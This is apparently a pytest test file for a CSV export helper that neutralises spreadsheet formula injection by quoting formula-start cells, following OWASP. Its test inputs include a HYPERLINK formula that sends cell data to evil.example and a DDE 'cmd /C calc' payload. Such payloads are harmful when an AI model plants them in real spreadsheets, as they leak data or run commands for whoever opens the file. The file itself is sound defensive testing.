"""CSV cells: formula starts are neutralised with a quote (OWASP), plain numbers stay numbers."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from web.spreadsheet import FORMULA_STARTS, csv_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-A1", "'-A1"),
        ("-SUM(A1:A2)", "'-SUM(A1:A2)"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("+", "'+"),
        ("-1e5x", "'-1e5x"),
        ("- 1", "'- 1"),
        ("-\u0661", "'-\u0661"),  # a non-ASCII digit is not a plain number
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-0.25, "-0.25"),
        (-1e-05, "-1e-05"),
        (-3, "-3"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        ("-2.", "-2."),
        ("-1E+10", "-1E+10"),
    ],
)
def test_plain_numbers_with_a_sign_stay_numbers(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("adam", "adam"),
        ("a=b", "a=b"),
        (0.1, "0.1"),
        (64, "64"),
        (datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC), "2024-01-02T03:04:05+00:00"),
        (["a", 1], "['a', 1]"),
        ("", ""),
    ],
)
def test_other_cells_are_their_text(value, cell):
    assert csv_cell(value) == cell


def test_every_formula_start_of_owasp_is_covered():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
